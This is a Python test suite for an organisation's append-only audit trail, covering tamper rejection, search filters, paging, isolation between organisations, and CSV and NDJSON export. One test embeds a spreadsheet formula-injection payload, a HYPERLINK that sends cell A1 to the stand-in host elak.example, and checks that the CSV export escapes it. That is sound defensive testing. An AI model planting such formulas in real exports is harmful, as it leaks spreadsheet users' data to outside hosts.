"""The audit trail: only ever added to, searched, exported, and nobody's but the organisation's administrators'."""

import csv
import io
import json
import sqlite3
import time
from contextlib import closing
from typing import Any

import pytest

from tests.desk import DeskClient
from tests.phone import Phone
from tests.server.conftest import Joined, Sat
from tests.serving import Running

DAY = 86_400_000


def add(server: Running, organisation: str, *deeds: tuple[Any, ...]) -> None:
    """(at, member, name, deed, about, title, before, after) straight into the table, as `audit.note` writes them."""
    with closing(sqlite3.connect(server.data / "stormlykta.db", timeout=10)) as database, database:
        ((last,),) = database.execute("SELECT coalesce(max(number), 0) FROM audit WHERE organisation = ?", (organisation,))
        database.executemany(
            "INSERT INTO audit (organisation, number, at, member, name, seat, deed, about, title, before, after) VALUES (?, ?, ?, ?, ?, '', ?, ?, ?, ?, ?)",
            [(organisation, last + place, *deed) for place, deed in enumerate(deeds, 1)],
        )


def deed(title: str, at: int = 1_800_000_000_000, name: str = "Maria Ek", member: str = "m1", kind: str = "checklist.published", about: str = "x") -> Any:
    return (at, member, name, kind, about, title, "null", json.dumps({"version": 2}, ensure_ascii=False))


async def titles(desk: DeskClient, query: str = "") -> list[str]:
    response = await desk.get(f"trail?{query}")
    assert response.status_code == 200, response.text
    return [entry["title"] for entry in response.json()["entries"]]


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE audit SET name = 'Någon annan' WHERE organisation = ?",
        "DELETE FROM audit WHERE organisation = ?",
        "UPDATE audit SET number = number + 1000 WHERE organisation = ?",
        "INSERT OR REPLACE INTO audit SELECT organisation, number, at, member, 'Någon annan', seat, deed, about, title, before, after FROM audit"
        " WHERE organisation = ?",
    ],
    ids=["changed", "deleted", "renumbered", "replaced"],
)
async def test_nothing_in_the_trail_can_be_changed_or_taken_away(sat: Sat, server: Running, organisation: str, sql: str) -> None:
    maria = await sat("Maria")
    settings = (await maria.get("settings")).json()
    assert (await maria.put("settings", {"mark": settings["mark"], "review_months": 3})).status_code == 200
    before = (await maria.get("trail")).json()
    with closing(sqlite3.connect(server.data / "stormlykta.db", timeout=10)) as database, pytest.raises(sqlite3.IntegrityError, match="only ever"), database:
        database.execute(sql, (organisation,))
    assert (await maria.get("trail")).json() == before
    assert before["entries"][0]["name"] == "Maria"


async def test_a_deed_says_who_what_when_before_and_after_and_from_which_seat(sat: Sat) -> None:
    maria, began = await sat("Maria"), int(time.time() * 1000)
    settings = (await maria.get("settings")).json()
    await maria.put("settings", {"mark": settings["mark"], "review_months": 3})
    told = (await maria.get("trail")).json()
    (entry,) = told["entries"]
    assert began <= entry["at"] <= time.time() * 1000
    assert (entry["number"], entry["member"], entry["name"], entry["deed"], entry["about"]) == (
        1,
        maria.member,
        "Maria",
        "settings.changed",
        maria.organisation,
    )
    assert (entry["before"], entry["after"]) == ({"review_months": 12}, {"review_months": 3})
    assert (entry["way"], entry["agent"]) == ("password", "test")
    assert entry["seat"]
    assert told["doers"] == [{"id": maria.member, "name": "Maria"}]
    assert told["deeds"] == ["settings.changed"]
    assert told["more"] == 0


async def test_the_trail_is_read_page_by_page_without_gaps_while_more_is_written(sat: Sat, server: Running, organisation: str) -> None:
    maria = await sat("Maria")
    add(server, organisation, *(deed(str(number)) for number in range(1, 251)))
    first = (await maria.get("trail")).json()
    add(server, organisation, deed("ny"))
    second = (await maria.get(f"trail?before={first['more']}")).json()
    third = (await maria.get(f"trail?before={second['more']}")).json()
    seen = [entry["title"] for page in (first, second, third) for entry in page["entries"]]
    assert seen == [str(number) for number in range(250, 0, -1)]
    assert (second["doers"], third["more"]) == ([], 0)


async def test_the_trail_is_found_by_who_what_when_about_and_words(sat: Sat, server: Running, organisation: str) -> None:
    maria = await sat("Maria")
    now = 1_800_000_000_000
    add(
        server,
        organisation,
        deed("Elavbrott på Ås", now - 3 * DAY, about="elavbrott-storm"),
        deed("Åsa Öberg", now - 2 * DAY, kind="member.added", about="m2"),
        deed("Rutin 100 % [klar]*", now - DAY, name="Erik", member="m9", kind="draft.begun"),
        deed("Växel", now, name="stormlykta publish", member="", kind="contact.changed"),
    )
    assert await titles(maria, "who=m9") == ["Rutin 100 % [klar]*"]
    assert await titles(maria, "who=stormlykta%20publish") == ["Växel"]
    assert await titles(maria, "deed=member.added") == ["Åsa Öberg"]
    assert await titles(maria, "deed=member") == ["Åsa Öberg"], "a noun finds all that is done to such things"
    assert await titles(maria, "deed=draft.begun,contact,mem,") == ["Växel", "Rutin 100 % [klar]*"]
    assert await titles(maria, "deed=mem") == await titles(maria, "deed=,") == []
    assert await titles(maria, "about=elavbrott-storm") == ["Elavbrott på Ås"]
    assert await titles(maria, f"from={now - DAY}&to={now}") == ["Rutin 100 % [klar]*"]
    assert await titles(maria, "q=ÅSA") == await titles(maria, "q=åsa öBERG") == ["Åsa Öberg"], "capitals do not matter, nor beyond ASCII"
    assert await titles(maria, "q=100 %25 [KLAR]*") == await titles(maria, "q=*") == ["Rutin 100 % [klar]*"], "signs mean themselves"
    assert await titles(maria, "q=?") == []
    assert await titles(maria, "q=erik") == ["Rutin 100 % [klar]*"]
    assert len(await titles(maria, "q=version")) == 4
    assert await titles(maria, f"q={'x' * 3000}") == []


@pytest.mark.parametrize("query", ["before=x", "from=-1", "to=1.5", "before=99999999999999999999", "from=٣"])
async def test_a_number_that_is_none_is_refused(sat: Sat, query: str) -> None:
    maria = await sat("Maria")
    for path in ("trail", "trail/export"):
        if path == "trail" or not query.startswith("before"):
            refused = await maria.get(f"{path}?{query}")
            assert (refused.status_code, refused.json()["error"]["code"]) == (400, "shape")


EVIL = '=HYPERLINK("http://elak.example/?x="&A1;"Klicka")'


async def test_the_trail_as_a_table_holds_no_formula_and_all_of_it(sat: Sat, server: Running, organisation: str) -> None:
    maria = await sat("Maria")
    add(server, organisation, *(deed(f"rad {number}") for number in range(1, 700)), deed(EVIL, name="@SUM(1;2)"), deed('Två\nrader; och "citat"'))
    response = await maria.get("trail/export?form=csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith(f'attachment; filename="logg-{organisation}-')
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 701
    assert [row["number"] for row in rows] == [str(number) for number in range(701, 0, -1)]
    assert (rows[1]["title"], rows[1]["name"]) == (f"'{EVIL}", "'@SUM(1;2)")
    assert rows[0]["title"] == 'Två\nrader; och "citat"'
    assert rows[0]["after"] == '{"version":2}'
    assert rows[0]["time"] == "2027-01-15 09:00:00"
    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]


async def test_the_trail_as_lines_for_a_program_is_exactly_what_is_kept(sat: Sat, server: Running, organisation: str) -> None:
    maria = await sat("Maria")
    add(server, organisation, deed(EVIL), deed("Bo", kind="member.added"))
    response = await maria.get("trail/export?form=ndjson&deed=checklist")
    assert response.headers["content-type"] == "application/x-ndjson"
    (entry,) = [json.loads(line) for line in response.text.splitlines()]
    assert (entry["title"], entry["after"]) == (EVIL, {"version": 2})
    refused = await maria.get("trail/export?form=xlsx")
    assert (refused.status_code, refused.json()["error"]["code"]) == (400, "shape")


async def test_who_takes_the_trail_away_stands_in_it(sat: Sat) -> None:
    maria = await sat("Maria")
    await maria.get("trail/export?form=ndjson&q=Bo")
    (entry,) = (await maria.get("trail")).json()["entries"]
    assert (entry["deed"], entry["name"], entry["after"]) == ("trail.exported", "Maria", {"form": "ndjson", "search": {"words": "Bo"}})


async def test_the_trail_is_each_organisations_own(sat: Sat, server: Running, organisation: str) -> None:
    maria, nora = await sat("Maria"), await sat("Nora", organisation=f"grann-{organisation}")
    add(server, organisation, deed("hos oss"))
    add(server, nora.organisation, deed("hos dem"))
    assert await titles(maria) == ["hos oss"]
    assert await titles(nora) == ["hos dem"]
    assert [json.loads(line)["title"] for line in (await nora.get("trail/export?form=ndjson")).text.splitlines()] == ["hos dem"]


async def test_revoking_a_phone_from_the_command_line_stands_in_the_trail_once(sat: Sat, joined: Joined, server: Running, organisation: str) -> None:
    maria, anna = await sat("Maria"), await joined("Anna")
    for _ in range(2):
        done = server.command("revoke", anna.device, "--organisation", organisation)
        assert done.returncode == 0
    assert server.command("revoke", Phone("x", anna.client).device, "--organisation", organisation).returncode == 1
    (entry,) = (await maria.get("trail")).json()["entries"]
    assert (entry["name"], entry["deed"], entry["about"], entry["title"]) == ("stormlykta revoke", "phone.revoked", anna.device, "Anna: Annas telefon")
